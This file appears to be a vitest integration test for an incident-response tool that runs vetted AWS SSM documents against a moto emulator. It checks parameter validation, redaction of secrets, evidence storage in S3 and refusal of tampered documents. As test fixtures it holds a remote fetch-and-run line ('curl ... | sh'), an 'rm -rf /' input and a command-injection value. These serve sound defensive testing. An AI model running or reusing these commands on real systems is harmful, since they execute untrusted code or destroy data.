import { CreateDocumentCommand, SSMClient } from '@aws-sdk/client-ssm';
import { DescribeImagesCommand, EC2Client, RunInstancesCommand } from '@aws-sdk/client-ec2';
import { GetObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FirebreakError, PartialFailureError } from '../../core/errors.js';
import { KIT_VARIABLES } from '../../core/names.js';
import { renderDocument, RUN_COMMAND_CATALOGUE } from '../../core/run-command/catalogue.js';
import { manualClock, memoryLogger } from '../../core/runtime.js';
import { makeContext, runStep } from '../../core/step.js';
import { startMoto, type MotoServer } from '../../drill/emulators/moto.js';
import { provisionEvidenceBucket } from '../../drill/fixtures/evidence-bucket.js';
import { MemoryAuditSink } from '../../providers/local/file-audit-sink.js';
import { provisionRunCommandDocuments } from './fixture.js';
import { buildRunCommandPorts } from './runtime.js';
import { runCommandStep } from './step.js';

let moto: MotoServer;
let instance: string;
let bucket: string;
let env: Record<string, string>;
const INCIDENT = 'INC-20261202-slowdb';

beforeAll(async () => {
  moto = await startMoto();
  const cfg = { region: moto.region, endpoint: moto.directEndpoint, credentials: { accessKeyId: 'testing', secretAccessKey: 'testing' } };
  const ec2 = new EC2Client(cfg);
  const ami = (await ec2.send(new DescribeImagesCommand({}))).Images![0]!.ImageId!;
  instance = (await ec2.send(new RunInstancesCommand({ ImageId: ami, MinCount: 1, MaxCount: 1, InstanceType: 't3.micro' }))).Instances![0]!.InstanceId!;
  ec2.destroy();
  await provisionRunCommandDocuments(moto, 'firebreak');
  // A document under another prefix whose script was edited after provisioning: not the vetted one.
  const ssm = new SSMClient(cfg);
  const edited = renderDocument(RUN_COMMAND_CATALOGUE[0]!) as { mainSteps: Array<{ inputs: { runCommand: string[] } }> };
  edited.mainSteps[0]!.inputs.runCommand.push('curl -s http://203.0.113.9/x | sh');
  await ssm.send(new CreateDocumentCommand({ Name: 'tampered-HostHealth', DocumentType: 'Command', DocumentFormat: 'JSON', Content: JSON.stringify(edited) }));
  ssm.destroy();
  bucket = await provisionEvidenceBucket(moto, 'fb-evidence-run-command');
  env = { ...moto.env(), [KIT_VARIABLES.ssmDocumentPrefix]: 'firebreak', [KIT_VARIABLES.evidenceBucket]: bucket, [KIT_VARIABLES.evidencePrefix]: 'incidents/' };
}, 60_000);
afterAll(async () => {
  await moto?.stop();
});

function setup(extra: Record<string, string> = {}) {
  const clock = manualClock('2026-12-02T04:00:00Z');
  const ctx = makeContext({ audit: new MemoryAuditSink(), clock, sleep: clock.sleep, logger: memoryLogger(), dryRun: false, incidentId: INCIDENT, actor: 'responder' });
  return { ctx, ports: buildRunCommandPorts({ ...env, ...extra }, { sleep: clock.sleep, pollMs: 1_000, callAttempts: 1 }) };
}
const refusal = async (p: Promise<unknown>) => {
  const e = await p.then(() => undefined, (x: unknown) => x);
  if (!(e instanceof FirebreakError)) expect.unreachable(`expected a FirebreakError, got ${String(e)}`);
  return e;
};
const sent = (from: number) => moto.requests.slice(from).filter((r) => r.target?.endsWith('.SendCommand')).length;
const invocation = (body: Record<string, unknown>) => ({ target: 'GetCommandInvocation', times: Infinity, status: 200, headers: { 'content-type': 'application/x-amz-json-1.1' }, body });

describe('run-command (moto)', () => {
  it('runs a vetted document with checked parameters and keeps the output as evidence', async () => {
    const { ctx, ports } = setup();
    const run = await runStep(runCommandStep, { document: 'postgres-long-queries', instances: `aws:instance:${instance}`, parameters: 'database=shop\nmode=terminate' }, ports, ctx);
    expect(run.result?.status).toBe('ok');
    expect(run.plan?.changes[0]).toMatchObject({ subject: 'firebreak-PostgresLongQueries', detail: { parameters: { database: 'shop', minutes: '5', mode: 'terminate' } } });
    const reason = run.result!.outcomes[0]!.reason!;
    const key = /s3:\/\/[^/]+\/(\S+)$/.exec(reason)?.[1];
    expect(key).toMatch(new RegExp(`^incidents/${INCIDENT}/run-command/[0-9a-f-]+/${instance}\\.json$`));
    const s3 = new S3Client({ region: moto.region, endpoint: moto.directEndpoint, credentials: { accessKeyId: 'testing', secretAccessKey: 'testing' }, forcePathStyle: true });
    const body = JSON.parse(await (await s3.send(new GetObjectCommand({ Bucket: bucket, Key: key! }))).Body!.transformToString()) as Record<string, unknown>;
    s3.destroy();
    expect(body).toMatchObject({ document: 'firebreak-PostgresLongQueries', instanceId: instance, status: 'Success', parameters: { minutes: '5' } });
  });

  it('output is redacted and clipped in the summary and redacted in the evidence; a failed host is reported with its stderr', async () => {
    const { ctx, ports } = setup();
    ctx.redactor.register('hunter2-db-password');
    moto.faults.add(invocation({ Status: 'Failed', ResponseCode: 2, StandardOutputContent: `DATABASE_URL=postgres://app:hunter2-db-password@db/shop\n${'x'.repeat(5000)}`, StandardErrorContent: 'psql: FATAL' }));
    let e: unknown;
    try {
      e = await runStep(runCommandStep, { document: 'host-health', instances: `aws:instance:${instance}` }, ports, ctx).then(() => undefined, (x: unknown) => x);
    } finally {
      moto.faults.clear();
    }
    if (!(e instanceof PartialFailureError)) expect.unreachable(String(e));
    const reason = (e.result as { outcomes: Array<{ reason: string }> }).outcomes[0]!.reason;
    expect(reason).toContain('Failed, exit 2; stderr: psql: FATAL');
    expect(reason).not.toContain('hunter2-db-password');
    expect(reason).toContain('[REDACTED]');
    expect(reason.length).toBeLessThan(3_500);
    const key = /s3:\/\/[^/]+\/(\S+)$/.exec(reason)?.[1];
    const s3 = new S3Client({ region: moto.region, endpoint: moto.directEndpoint, credentials: { accessKeyId: 'testing', secretAccessKey: 'testing' }, forcePathStyle: true });
    const stored = await (await s3.send(new GetObjectCommand({ Bucket: bucket, Key: key! }))).Body!.transformToString();
    s3.destroy();
    expect(stored).not.toContain('hunter2-db-password');
    expect(stored).toContain('x'.repeat(5000));
  });

  it('a host still running at the timeout is reported with how to read it later', async () => {
    const { ctx, ports } = setup();
    moto.faults.add(invocation({ Status: 'InProgress', StandardOutputContent: '' }));
    let e: unknown;
    try {
      e = await runStep(runCommandStep, { document: 'docker-stats', instances: `aws:instance:${instance}`, timeoutMinutes: '1' }, ports, ctx).then(() => undefined, (x: unknown) => x);
    } finally {
      moto.faults.clear();
    }
    if (!(e instanceof PartialFailureError)) expect.unreachable(String(e));
    expect((e.result as { outcomes: Array<{ reason: string }> }).outcomes[0]!.reason).toMatch(/still InProgress after 1 min; read it later: aws ssm get-command-invocation --command-id \S+ --instance-id i-/);
  });

  it('refuses free text, bad parameters, a tampered or missing document, without sending anything', async () => {
    const from = moto.requests.length;
    const { ctx, ports } = setup();
    expect((await refusal(runStep(runCommandStep, { document: 'bash', instances: `aws:instance:${instance}`, parameters: 'cmd=rm -rf /' }, ports, ctx))).code).toBe('INPUT_CHOICE');
    const bad = await refusal(runStep(runCommandStep, { document: 'docker-compose-restart', instances: `aws:instance:${instance}`, parameters: "projectDir=/srv/app\nservice=web'; reboot #" }, ports, ctx));
    expect(bad.code).toBe('PARAMETER_INVALID');
    expect(bad.message).toContain('service: "web\'; reboot #" does not match');
    expect((await refusal(runStep(runCommandStep, { document: 'host-health', instances: `aws:instance:${instance}`, parameters: 'unit=docker\nextra=1' }, ports, ctx))).code).toBe('PARAMETER_INVALID');
    const tampered = setup({ [KIT_VARIABLES.ssmDocumentPrefix]: 'tampered' });
    const t = await refusal(runStep(runCommandStep, { document: 'host-health', instances: `aws:instance:${instance}` }, tampered.ports, tampered.ctx));
    expect(t.code).toBe('DOCUMENT_NOT_VETTED');
    const missing = setup({ [KIT_VARIABLES.ssmDocumentPrefix]: 'nokit' });
    expect((await refusal(runStep(runCommandStep, { document: 'host-health', instances: `aws:instance:${instance}` }, missing.ports, missing.ctx))).code).toBe('DOCUMENT_NOT_PROVISIONED');
    expect((await refusal(runStep(runCommandStep, { document: 'host-health', instances: 'aws:ecs-service:a/b' }, ports, ctx))).code).toBe('TARGET_INVALID');
    expect(sent(from)).toBe(0);
  });
});
